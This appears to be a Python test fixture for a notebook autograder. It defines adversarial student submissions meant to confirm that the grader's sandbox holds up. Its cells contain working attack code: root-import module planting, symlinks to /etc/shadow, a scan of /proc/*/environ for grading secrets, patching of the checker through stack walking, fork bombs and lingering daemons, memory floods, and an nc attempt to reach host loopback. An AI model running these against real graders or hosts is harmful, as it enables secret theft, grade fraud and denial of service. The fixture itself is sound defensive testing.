"""The adversarial corpus: submissions written as a class that wants to beat the grader would write them.

Each :class:`Attack` is the generated student notebook of a lab with some cells answered, replaced,
added or mangled, and what grading it must give: at most the points of the honest answers it contains,
and exactly one status. ``{canary}`` in a cell's source is replaced by the directory of the test's
canary files (a root-only secret among them) and ``{marker}`` by a string unique to the test run, which
every process the attack starts carries in its command line or which every file it plants is named after.

Classes (issue 11): 1 student code as root, 2 symlinks the supervisor follows, 3 hidden material,
4 helpers from the kernel, 5 tamper detection, 6 processes and files left behind, 7 the supervisor's
memory, 8 true statuses; plus a few of our own.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.grading import grading_submissions as ex
from vlab.grading.format import cell_spec

Notebook = dict[str, Any]

# --- lab 00 (the example lab: q1 fib 3, q2 walk 3, q3 mean 2) --------------------------------------

FIB, WALK, MEAN = ex.FIB, ex.WALK, ex.MEAN

# class 1: modules and start-up files planted where a root process might import them
PLANT_MODULES = '''import os, pathlib
payload = "open({canary!r} + '/pwned-{marker}', 'w').write(str(os.getuid()))\\n"
for rel in ["vlab/__init__.py", "vlab/grading/__init__.py", "vlab/grading/jail.py", "vlab/grading/exports.py",
            "sitecustomize.py", "usercustomize.py", "jupyter_client.py", "zmq.py", "nbformat.py", "encodings.py"]:
    path = pathlib.Path(rel)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(payload)
pathlib.Path("evil.pth").write_text("import os; " + payload)
pathlib.Path(".ipython/profile_default/startup").mkdir(parents=True, exist_ok=True)
pathlib.Path(".ipython/profile_default/startup/00.py").write_text(payload)
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["PYTHONSTARTUP"] = os.getcwd() + "/sitecustomize.py"'''

# class 2: every file the supervisor ever touched in the student's directory, and the sockets' directory,
# replaced by symlinks to root-only files (run in the last cell, and again by a daemon after the export)
SYMLINKS = """import os, sys, time
targets = [{canary!r} + "/secret", "/etc/shadow", "/proc/1/environ"]
def swap():
    names = ["vlab-exports.json", "kernel-stderr.log", "kernel.json", "result.json"]
    conn = os.path.dirname(sys.argv[sys.argv.index("-f") + 1]) if "-f" in sys.argv else None
    for directory in [os.getcwd(), conn, os.path.dirname(os.getcwd())]:
        if not directory:
            continue
        try:
            present = [n for n in os.listdir(directory) if not n.startswith(".")]
        except OSError:
            present = []
        for name in names + present:
            path = os.path.join(directory, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    continue
                os.unlink(path)
            except OSError:
                pass
            try:
                os.symlink(targets[0], path)
            except OSError:
                pass
swap()
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(0.01)
        swap()"""

# class 3: everything of the course a student might look for
READS_COURSE = """import glob, json, os
found = []
for pattern in [{canary!r} + "/*", "/root/*", "/root/.config/vlab/*", "/work/*/labs/source/*.ipynb",
                "/work/*/labs/autograder/*.json", "/tmp/*", "/tmp/*/*", "/home/*/*", "/srv/*", "/var/lib/*"]:
    for path in glob.glob(pattern):
        try:
            with open(path) as handle:
                text = handle.read(4096)
        except OSError:
            continue
        if "check_sources" in text or "BEGIN SOLUTION" in text or "root only" in text:
            found.append(path)
mounts = open("/proc/self/mountinfo").read()
leaks = [word for word in ("autograder", "labs/source", "submissions", "canary") if word in mounts]
for path in glob.glob("/proc/*/environ"):
    try:
        if "GRADING_SECRET" in open(path, errors="replace").read():
            found.append(path)
    except OSError:
        pass
raise RuntimeError(f"found={{found}} leaks={{leaks}}")"""

# class 4 (lab 00): the checker monkeypatched in the kernel and from a default argument in the host
PATCH_CHECKER = ex.MONKEYPATCH


# class 5: a pristine copy of a locked cell before an edited one, with the same id
def duplicate_before_edited(nb: Notebook, cell_id: str, new_source: str) -> None:
    index = _index(nb, cell_id)
    pristine = copy.deepcopy(nb["cells"][index])
    nb["cells"][index]["source"] = new_source
    nb["cells"].insert(index, pristine)


def retype(nb: Notebook, cell_id: str, cell_type: str) -> None:
    cell = nb["cells"][_index(nb, cell_id)]
    cell["cell_type"] = cell_type
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def delete(nb: Notebook, cell_id: str) -> None:
    del nb["cells"][_index(nb, cell_id)]


def move_to_end(nb: Notebook, cell_id: str) -> None:
    nb["cells"].append(nb["cells"].pop(_index(nb, cell_id)))


def keep_only_graded_code(nb: Notebook, keep: tuple[str, ...] = ()) -> None:
    """After the params cell, drop every code cell that is neither locked, an answer, the attack's own nor in
    ``keep`` (a student may delete them: here, the cell that stops the VMs the locked cells boot)."""
    params = next(
        i for i, c in enumerate(nb["cells"]) if (c.get("metadata", {}).get("vlab") or {}).get("role") == "params"
    )
    nb["cells"] = nb["cells"][: params + 1] + [
        c
        for c in nb["cells"][params + 1 :]
        if c["cell_type"] != "code"
        or c.get("metadata", {}).get("vlab")
        or str(c.get("id", "")).startswith("extra")
        or c.get("id") in keep
    ]


def strip_ids(nb: Notebook) -> None:
    for cell in nb["cells"]:
        cell.pop("id", None)


# class 6: processes and files that outlive the kernel
ZOMBIE_LEADER = """import ctypes, os, threading, time
if os.fork() == 0:
    threading.Thread(target=time.sleep, args=(300,), name="{marker}").start()
    ctypes.CDLL(None).syscall(60, 0)  # exit(2): only the main thread ends, the process lives on"""

DAEMON = """import os, subprocess
subprocess.Popen(["sh", "-c", "exec -a {marker} sleep 300"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "exec -a {marker}-2 sleep 300"])
    os._exit(0)"""

WRITES_EVERYWHERE = """import os
for place in ["/run/lock", "/run", "/var/tmp", "/dev/shm", "/tmp", "/var/lock", os.path.expanduser("~")]:
    try:
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, "{marker}"), "w") as handle:
            handle.write("left behind")
    except OSError:
        pass"""

KILL_EVERYTHING = """import os, signal
for target in (-1, 1):  # every process it may signal, then the namespace's init
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)"""

# class 9: the network. The grader's guard against a NIC with outbound access is an environment variable the
# student can remove; what must hold is that neither the kernel nor a guest reaches a service on the host's
# loopback ({port}: a listener the test runs there and counts connections on). A boot failure or a console timeout
# raises, so the attack's expected status (no "errors") says the VM really booted and tried.
REACHES_HOST = """import os, socket
os.environ.pop("VLAB_DENY_OUTBOUND", None)
import vlab
from vlab.qemu import Nic, VMConfig
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
except OSError:
    pass
with vlab.VM(VMConfig(name="{marker}", nics=(Nic(outbound=True, ip="10.0.2.15/24"),))) as vm:
    print(vm.console.run("nc -w 3 10.0.2.2 {port} </dev/null && echo sent || echo unreachable", timeout=60).output)"""

# class 7: output the supervisor must not keep
PRINTS_A_LOT = """import sys
for _ in range(6):
    display({{"text/plain": "y" * (64 * 2**20)}}, raw=True)
chunk = "x" * 2**16  # small: ZeroMQ queues up to 1000 messages unread
while True:  # until the notebook's time is up, however fast this machine moves output
    sys.stdout.write(chunk)
    sys.stdout.flush()  # else the kernel's own buffer outgrows its memory limit first (status "memory")"""

# messages just under the supervisor's 8 MiB cap, as fast as the kernel can send them: ZeroMQ would queue up to
# 1000 of them (8 GiB) in the supervisor if it read slower than they arrive
PRINTS_BIG_MESSAGES = """for _ in range(200):
    display({{"text/plain": "z" * (8 * 2**20 - 4096)}}, raw=True)  # more than its 4 s allow"""

# class 8: exports that fail
ALWAYS_EQUAL = """class AlwaysEqual:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
mean_latency = AlwaysEqual()"""

EXPORT_HANGS = """class Endless:
    def tolist(self):
        while True:
            pass
mean_latency = Endless()"""

HUGE_ANSWER = "mean_latency = 'x' * (40 * 2**20)"

STUB_CAUGHT = """try:
    fib(3)
except NotImplementedError:
    print("not yet")"""

# our own: a student function that never returns, and one that returns something unserialisable
FIB_SLEEPS = FIB.replace("    a, b = 0, 1", "    import time\n    time.sleep(30)\n    a, b = 0, 1")

# --- lab 98 (a helper in a read-only cell: q1 2 points) ---------------------------------------------

SORT = "# vlab: solution q1\ndef my_sort(xs):\n    return sorted(xs)"
SORT_STUB = "# vlab: solution q1\ndef my_sort(xs):\n    raise NotImplementedError"
SORT_UNSORTED = "# vlab: solution q1\ndef my_sort(xs):\n    return xs"
WRONG_PREDICTION = "# vlab: solution q2\ndef predicted_total(xs):\n    return 0"
REDEFINE_HELPER = """def score_my_sort(cases):
    return len(cases)"""
PATCH_BY_DEFAULT = """# vlab: solution q1
def my_sort(xs, _=setattr(__import__("vlab.grading.format", fromlist=["x"]), "digest", lambda text: "same")):
    raise NotImplementedError"""
PATCH_HELPER_CODE = """# vlab: solution q1
def my_sort(xs, _=[setattr(f, "__code__", (lambda cases: len(cases)).__code__)
                   for f in __import__("gc").get_objects()
                   if getattr(f, "__name__", "") == "score_my_sort" and hasattr(f, "__code__")]):
    raise NotImplementedError"""
# the helper calls my_sort and then, in the same expression, sorted(): a student function
# that runs in the helper's process changes them while it runs (and a guard that puts them back after the
# call is too late)
PATCHES_DURING_CALL = """# vlab: solution q1
def my_sort(xs):
    import builtins
    builtins.sorted = lambda seq, *args, **kwargs: list(seq)
    return list(xs)"""
WALKS_THE_STACK = """# vlab: solution q1
def my_sort(xs):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_globals["sorted"] = lambda seq, *args, **kwargs: list(seq)
        frame = frame.f_back
    return list(xs)"""
SHADOW_HELPER_GLOBAL = """import json
import vlab.grading.exports as _exports

FORGED = {{"functions": {{"my_sort": "import types\\nfmt = types.SimpleNamespace(digest=lambda text: 'same')\\n"
                                      "def my_sort(xs):\\n    return xs"}}}}  # doubled: build() turns {{ into {


def _forged_dump(namespace, names, path):  # the exports are the kernel's to write: it writes a fake fmt
    with open(path, "w") as handle:
        json.dump(FORGED, handle)


_exports.dump_exports = _forged_dump"""

# --- lab 01 (boots QEMU) ---------------------------------------------------------------------------

LAB01_LEAVES_VM = """import vlab
left_running = vlab.VM(mem=128)
left_running.start()
print("booted", left_running.boot_seconds)"""


@dataclass(frozen=True)
class Attack:
    """One submission: how it is made from the student notebook, and what grading must give."""

    name: str
    lab: str
    klass: str
    status: str
    honest: float  # the points of the honest answers it contains: the score may not exceed them
    answers: dict[str, str] = field(default_factory=dict)  # role key ("solution q1", ...) or cell id → source
    extra: tuple[tuple[str, str], ...] = ()  # (after role key or cell id, source) inserted cells
    mangle: Callable[[Notebook], None] | None = None
    raw: str | None = None  # the submission's text, if it is not built from the notebook


def _index(nb: Notebook, key: str) -> int:
    for index, cell in enumerate(nb["cells"]):
        if cell.get("id") == key:
            return index
    for index, cell in enumerate(nb["cells"]):
        spec = cell_spec(cell, index)
        if spec.role and f"{spec.role} {spec.question or ''}".strip() == key:
            return index
    raise KeyError(key)


def build(student_text: str, attack: Attack, canary: str, marker: str, port: int = 9) -> str:
    """The submission's text (``port``: the host-loopback listener class 9 tries to reach)."""
    if attack.raw is not None:
        return attack.raw
    nb: Notebook = json.loads(student_text)

    def fill(source: str) -> str:
        return (
            source.replace("{canary!r}", repr(canary))
            .replace("{marker}", marker)
            .replace("{port}", str(port))
            .replace("{{", "{")
            .replace("}}", "}")
        )

    for key, source in attack.answers.items():
        nb["cells"][_index(nb, key)]["source"] = fill(source)
    for number, (after, source) in enumerate(attack.extra):
        cell: dict[str, Any] = {
            "cell_type": "code",
            "id": f"extra{number}",
            "metadata": {},
            "source": fill(source),
            "outputs": [],
            "execution_count": None,
        }
        nb["cells"].insert(_index(nb, after) + 1 if after != "end" else len(nb["cells"]), cell)
    if attack.mangle is not None:
        attack.mangle(nb)
    return json.dumps(nb, indent=1)


ALL = {"solution q1": FIB, "solution q2": WALK, "solution q3": MEAN}
NUMBER_IN_SOURCE = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [{"cell_type": "code", "id": "a", "metadata": {}, "source": ["x = 1\n", 7]}],
    }
)

ATTACKS = [
    # baselines
    Attack("honest", "00", "-", "ok", 8, ALL),
    Attack("half", "00", "-", "unanswered", 3, {"solution q1": FIB}),
    Attack("blank", "00", "8", "unanswered", 0),
    Attack("stub-caught", "00", "8", "unanswered", 0, extra=(("solution q1", STUB_CAUGHT),)),
    # 1 student code as root
    Attack("plants-modules", "00", "1", "ok", 8, ALL, extra=(("solution q1", PLANT_MODULES),)),
    # 2 symlinks
    Attack("symlinks", "00", "2", "export-failed+leftovers", 8, ALL, extra=(("end", SYMLINKS),)),
    # 3 hidden material
    Attack("reads-course", "00", "3", "errors", 8, ALL, extra=(("solution q1", READS_COURSE),)),
    # 4 the checker and its helpers
    Attack("patches-checker", "00", "4", "unanswered", 0, extra=(("solution q1", PATCH_CHECKER),)),
    Attack("redefines-helper", "98", "4", "unanswered", 0, extra=(("readonly q1", REDEFINE_HELPER),)),
    Attack("patches-by-default", "98", "4", "unanswered", 0, {"solution q1": PATCH_BY_DEFAULT}),
    Attack("patches-helper-code", "98", "4", "unanswered", 0, {"solution q1": PATCH_HELPER_CODE}),
    Attack("shadows-helper-global", "98", "4", "ok", 0, {"solution q1": SORT_UNSORTED},
           extra=(("solution q1", SHADOW_HELPER_GLOBAL),)),
    Attack("patches-during-call", "98", "4", "ok", 0, {"solution q1": PATCHES_DURING_CALL}),
    Attack("walks-the-stack", "98", "4", "ok", 0, {"solution q1": WALKS_THE_STACK}),
    Attack("helper-honest", "98", "-", "ok", 2, {"solution q1": SORT}),
    # 4b measurements: a locked cell's exports are taken when it has run, not at the end
    Attack("overwrites-measurement", "98", "4", "ok", 2, {"solution q1": SORT, "solution q2": WRONG_PREDICTION},
           extra=(("readonly q2", "measured_total = 0  # now my prediction 'matches'"),)),
    Attack("breaks-measurement-then-fakes-it", "98", "4", "errors", 2,
           {"solution q1": SORT, "solution q2": WRONG_PREDICTION},
           extra=(("solution q2", "PARAMS = None  # the locked cell fails"), ("readonly q2", "measured_total = 0"))),
    # 5 tamper detection
    Attack("edits-readonly", "00", "5", "tampered", 6, {**ALL, "readonly q3": ex.TAMPERED_READONLY}),
    Attack(
        "pristine-copy-first",
        "00",
        "5",
        "tampered",
        6,
        ALL,
        mangle=lambda nb: duplicate_before_edited(nb, "c12", ex.TAMPERED_READONLY),
    ),
    Attack("check-to-raw", "00", "5", "tampered", 5, ALL, mangle=lambda nb: retype(nb, "c05", "raw")),
    Attack("check-to-markdown", "00", "5", "tampered", 5, ALL, mangle=lambda nb: retype(nb, "c09", "markdown")),
    Attack("deletes-check", "00", "5", "tampered", 5, ALL, mangle=lambda nb: delete(nb, "c05")),
    Attack("reorders-locked", "00", "5", "tampered", 5, ALL, mangle=lambda nb: move_to_end(nb, "c05")),
    Attack("strips-ids", "00", "5", "tampered", 0, ALL, mangle=strip_ids),
    Attack(
        "readonly-to-raw-helper",
        "98",
        "5",
        "tampered",
        0,
        {"solution q1": SORT},
        mangle=lambda nb: retype(nb, "h05", "raw"),
    ),
    # 6 left behind
    Attack("zombie-leader", "00", "6", "leftovers", 8, ALL, extra=(("solution q1", ZOMBIE_LEADER),)),
    Attack("daemons", "00", "6", "leftovers", 8, ALL, extra=(("solution q1", DAEMON),)),
    Attack("writes-everywhere", "00", "6", "ok", 8, ALL, extra=(("solution q1", WRITES_EVERYWHERE),)),
    Attack("fork-bomb", "00", "6", "processes+leftovers", 8, ALL, extra=(("solution q1", ex.FORK_BOMB),)),
    Attack("leaves-qemu", "00", "6", "leftovers", 8, ALL, extra=(("solution q1", ex.vm_cell("{marker}")),)),
    Attack("kills-everything", "00", "6", "kernel-died", 0, ALL, extra=(("solution q3", KILL_EVERYTHING),)),
    # 7 memory
    Attack("prints-a-lot", "00", "7", "timeout", 8, ALL, extra=(("solution q1", PRINTS_A_LOT),)),
    Attack("memory-hog", "00", "7", "memory", 8, ALL, extra=(("solution q1", ex.MEMORY_HOG),)),
    Attack("prints-big-messages", "00", "7", "timeout", 8, ALL, extra=(("solution q1", PRINTS_BIG_MESSAGES),)),
    # 8 statuses
    Attack("not-json", "00", "8", "invalid", 0, raw="this is not a notebook {"),
    Attack("number-in-source", "00", "8", "invalid", 0, raw=NUMBER_IN_SOURCE),
    Attack("cells-not-a-list", "00", "8", "invalid", 0, raw=json.dumps({"nbformat": 4, "cells": {"a": 1}})),
    Attack(
        "always-equal", "00", "8", "export-failed", 6, {**ALL, "solution q3": "# vlab: solution q3\n" + ALWAYS_EQUAL}
    ),
    Attack(
        "export-hangs", "00", "8", "export-failed", 0, {**ALL, "solution q3": "# vlab: solution q3\n" + EXPORT_HANGS}
    ),
    Attack("huge-answer", "00", "8", "export-failed", 0, {**ALL, "solution q3": "# vlab: solution q3\n" + HUGE_ANSWER}),
    Attack("function-sleeps", "00", "8", "timeout", 5, {**ALL, "solution q1": FIB_SLEEPS}),
    Attack("infinite-loop", "00", "8", "timeout", 8, ALL, extra=(("solution q1", ex.INFINITE_LOOP),)),
    # QEMU
    Attack(
        "lab01-leaves-vm",
        "01",
        "6+9",  # lab 01's limits let QEMU run (the example lab's 1 GiB address space is too small for TCG)
        "leftovers",  # q5 and q6 are answered: not a blank submission
        3,
        {
            "solution q5": "# vlab: solution q5\ntcg_answer = TCG_VS_KVM.letter(0, PARAMS)",
            "solution q6": "# vlab: solution q6\n"
                           "textbook_true = {{TEXTBOOK.letter(2, PARAMS), TEXTBOOK.letter(3, PARAMS)}}",
        },
        extra=(
            ("solution q6", LAB01_LEAVES_VM),
            ("solution q6", READS_COURSE.replace("raise RuntimeError", "print")),
            ("solution q6", REACHES_HOST),
        ),
        mangle=lambda nb: keep_only_graded_code(nb, keep=("3484d07f",)),  # the imports the locked cells use
    ),
]
